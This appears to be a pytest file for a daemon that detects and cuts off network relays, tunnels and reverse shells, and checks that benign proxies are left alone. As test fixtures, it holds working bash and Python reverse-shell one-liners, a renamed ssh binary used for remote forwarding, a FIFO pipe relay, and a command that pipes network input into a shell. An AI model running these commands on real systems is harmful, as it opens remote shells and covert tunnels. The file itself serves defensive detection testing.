"""Relays of every make are cut off by what they do, and what only looks like one goes on."""

from __future__ import annotations

import contextlib
import re
import shutil
import socket
import ssl
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from killswitch.commands import Containment
from killswitch.config import SHIPPED_POLICIES
from tests.rig.daemon import Daemon
from tests.rig.netns import FarSide, inside
from tests.rig.sshd import Sshd
from tests.rig.tunnels import PROGRAMS, Hub, Service, certificate, drive, talk

CUT_OFF = Containment(severed=True, frozen=True)
BEHAVIOUR = ("relay", "relay-likely", "reverse-shell")  # of the shipped rules those that look at nothing else
EXCHANGES = 400  # at which a test gives up: a tunnel is long cut by then


@pytest.fixture(scope="module")
def by_behaviour() -> Iterator[Daemon]:
    """A daemon that has only these of the shipped rules."""
    shipped = (SHIPPED_POLICIES / "rogue-agent.yaml").read_text()
    head, _, rules = shipped.partition("\nrules:\n")
    kept = [
        r for r in re.split(r"\n(?=  - id: )", "\n" + rules) if r.split("\n")[0].removeprefix("  - id: ") in BEHAVIOUR
    ]
    assert len(kept) == len(BEHAVIOUR)
    shells = re.search(r"\n  shells: [^]]*]\n", head)
    assert shells
    head = head[: head.index("\nlists:")] + "\nlists:" + shells[0]
    with Daemon(policies={"relay.yaml": head + "\nrules:\n" + "\n".join(kept)}, KILLSWITCH_LOG_LEVEL="debug") as daemon:
        yield daemon


@pytest.fixture
def daemon(by_behaviour: Daemon) -> Iterator[Daemon]:
    yield by_behaviour
    by_behaviour.tidy()


@pytest.fixture
def service() -> Iterator[Service]:
    with Service() as made:
        yield made


@pytest.fixture(scope="module")
def tls(tmp_path_factory: pytest.TempPathFactory) -> ssl.SSLContext:
    return certificate(tmp_path_factory.mktemp("tls"))


def cut_off(daemon: Daemon, name: str, rule: str = "relay") -> None:
    """The workload is contained, and the finding says why."""
    daemon.wait_for(f"{name} cut off", lambda: (w := daemon.workload(name)) is not None and w.observed == CUT_OFF)
    w = daemon.workload(name)
    assert w
    findings = daemon.client.incident(w.incident).findings
    assert rule in {f.rule for f in findings}


def left_alone(daemon: Daemon, name: str) -> None:
    time.sleep(1.5)  # one more look of the daemon's at what went last
    w = daemon.workload(name)
    assert w is not None and w.observed == Containment(), daemon.log()[-4000:]


@pytest.mark.parametrize(
    ("kind", "options", "streams"),
    [
        ("plain", (), 1),
        ("plain", ("tls", "eager"), 1),
        ("websocket", ("tls",), 1),
        ("streams", ("tls",), 3),
        ("work", (), 1),
    ],
)
def test_tunnels_of_our_own(
    daemon: Daemon,
    far: FarSide,
    service: Service,
    tls: ssl.SSLContext,
    kind: str,
    options: tuple[str, ...],
    streams: int,
) -> None:
    daemon.watched("job")
    with Hub(far, kind, tls if "tls" in options else None) as hub:
        tunnel = str(PROGRAMS / "tunnel.py")
        daemon.spawn("job", sys.executable, tunnel, kind, hub.host, str(hub.port), str(service.port), *options)
        done = drive(hub, hub.accept(), EXCHANGES, streams=streams)
    cut_off(daemon, "job")
    assert done < EXCHANGES


def test_openssh_by_another_name(daemon: Daemon, far: FarSide, service: Service, tmp_path: Path) -> None:
    daemon.watched("job")
    renamed = tmp_path / "updater"
    shutil.copy("/usr/bin/ssh", renamed)
    with Sshd(far, tmp_path / "sshd") as sshd:
        daemon.spawn("job", *sshd.client("-N", "-R", f"9000:127.0.0.1:{service.port}", program=str(renamed)))
        daemon.wait_for("the tunnel", lambda: sshd.listening(9000))
        done = talk(far, (far.far4, 9000), EXCHANGES)
    cut_off(daemon, "job")
    assert done < EXCHANGES


def test_two_processes_over_a_pipe(daemon: Daemon, far: FarSide, service: Service, tmp_path: Path) -> None:
    """Neither holds both ends."""
    daemon.watched("job")
    half = "import socket,sys,os,threading\n" + (
        "s=socket.create_connection((sys.argv[1],int(sys.argv[2])))\n"
        "def up():\n"
        "    while d:=os.read(0,65536): s.sendall(d)\n"
        "threading.Thread(target=up,daemon=True).start()\n"
        "while d:=s.recv(65536): os.write(1,d)\n"
    )
    (tmp_path / "half.py").write_text(half)
    with Hub(far) as hub:
        python = f"{sys.executable} {tmp_path}/half.py"
        there, here = f"{python} {hub.host} {hub.port}", f"{python} 127.0.0.1 {service.port}"
        line = f"mkfifo {tmp_path}/f; {there} <{tmp_path}/f | {here} >{tmp_path}/f"
        daemon.spawn("job", "/bin/sh", "-c", line)
        done = drive(hub, hub.accept(), EXCHANGES)
    cut_off(daemon, "job")
    assert done < EXCHANGES


@pytest.mark.parametrize(
    "command",
    [
        ["/bin/bash", "-c", "exec bash -i >& /dev/tcp/{host}/{port} 0>&1"],
        ["{python}", "-c", "import os,socket;s=socket.create_connection(('{host}',{port}));"
         "[os.dup2(s.fileno(),n) for n in range(3)];os.execv('/bin/sh',['sh','-i'])"],
    ],
    ids=["bash", "python"],
)  # fmt: skip
def test_a_reverse_shell(daemon: Daemon, far: FarSide, command: list[str]) -> None:
    daemon.watched("job")
    with Hub(far) as hub:
        words = {"host": hub.host, "port": hub.port, "python": sys.executable}
        daemon.spawn("job", *[part.format(**words) for part in command])
        hub.accept()
        cut_off(daemon, "job", "reverse-shell")


# --- innocent -----------------------------------------------------------------------------------------------------------

CLIENT = """
import random, socket, struct, sys, time
def read(s, n):
    while n:
        n -= len(s.recv(n))
def size(k):
    return k if k else int(10 ** random.uniform(1, 3.5))
ends = []
for at in range(1, len(sys.argv) - 2, 2):
    for _ in range(200):
        try:
            ends.append(socket.create_connection((sys.argv[at], int(sys.argv[at + 1]))))
            break
        except OSError:
            time.sleep(0.05)
kind, count = sys.argv[-2:]
for k in range(int(count)):
    for number, s in enumerate(ends):
        if kind == "store":  # what was fetched is stored, as it is
            if number == 0:
                fetched = size(0)
                n, m = 20, fetched
            else:
                n, m = fetched, 12
        else:
            n, m = (random.randrange(400, 600), random.randrange(400, 600)) if kind == "similar" else (size(0), size(0))
        s.sendall(struct.pack("!II", n, m) + bytes(n))
        read(s, m)
    time.sleep(0.01)
"""

FORWARD = """
import socket, sys, threading
def pump(a, b):
    try:
        while d := a.recv(65536):
            b.sendall(d)
    except OSError:
        pass
l = socket.create_server((sys.argv[1], int(sys.argv[2])))
while True:
    c, _ = l.accept()
    o = socket.create_connection((sys.argv[3], int(sys.argv[4])))
    for a, b in ((c, o), (o, c)):
        a.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        threading.Thread(target=pump, args=(a, b), daemon=True).start()
"""


@pytest.mark.parametrize("kind", ["similar", "any", "store"])
def test_who_asks_outside_and_then_inside(daemon: Daemon, far: FarSide, service: Service, kind: str) -> None:
    """An agent between a model and its tools, by turns; a job that fetches and stores."""
    daemon.watched("job")
    with Service(listener=far.listen()) as model:
        ends = (far.far4, str(model.port), "127.0.0.1", str(service.port))
        child = daemon.spawn("job", sys.executable, "-c", CLIENT, *ends, kind, "150")
        assert child.wait(60) == 0
        left_alone(daemon, "job")


def test_a_forward_proxy_and_its_client(daemon: Daemon, far: FarSide) -> None:
    """Accepts on loopback and goes outside: also what kubectl port-forward and ssh -L do."""
    daemon.watched("job")
    port = free_port()
    with Service(listener=far.listen()) as outside:
        daemon.spawn("job", sys.executable, "-c", FORWARD, "127.0.0.1", str(port), far.far4, str(outside.port))
        child = daemon.spawn("job", sys.executable, "-c", CLIENT, "127.0.0.1", str(port), "any", "150")
        assert child.wait(60) == 0
        left_alone(daemon, "job")


def test_a_server_in_front_of_its_back_end(daemon: Daemon, far: FarSide, service: Service) -> None:
    """Accepts from outside and connects inside: what is accepted was not asked for by the workload."""
    daemon.watched("job")
    port = free_port(far.near4)
    child = daemon.spawn("job", sys.executable, "-c", FORWARD, far.near4, str(port), "127.0.0.1", str(service.port))
    daemon.wait_for("the server", lambda: reachable(far, (far.near4, port)) or child.poll() is not None)
    assert talk(far, (far.near4, port), 100) == 100
    left_alone(daemon, "job")


def test_a_program_that_reads_from_outside(daemon: Daemon, far: FarSide) -> None:
    """One way only: a download into a shell's standard input is no shell for somebody far away."""
    daemon.watched("job")
    with Hub(far) as hub:
        daemon.spawn("job", "/bin/bash", "-c", f"sh < /dev/tcp/{hub.host}/{hub.port}")
        hub.accept().sendall(b"sleep 3\n")
        left_alone(daemon, "job")


def free_port(address: str = "127.0.0.1") -> int:
    with socket.create_server((address, 0)) as made:
        return int(made.getsockname()[1])


def reachable(far: FarSide, address: tuple[str, int]) -> bool:
    with contextlib.suppress(OSError):
        inside(far.name, lambda: socket.create_connection(address, 1)).close()
        return True
    return False
